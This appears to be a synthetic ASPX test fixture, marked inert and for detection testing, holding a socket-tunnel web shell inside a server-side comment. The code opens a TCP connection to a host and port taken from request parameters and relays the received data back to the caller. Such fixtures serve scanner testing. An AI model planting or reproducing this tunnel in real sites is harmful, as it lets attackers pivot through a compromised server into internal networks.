<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% string c = Request.QueryString["c"]; if (c == "open") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(Request.QueryString["h"], int.Parse(Request.QueryString["p"])); Session.Add("s", s); } else { Socket s = (Socket)Session["s"]; byte[] b = new byte[4096]; int n = s.Receive(b); Response.BinaryWrite(b); } %>
--%>
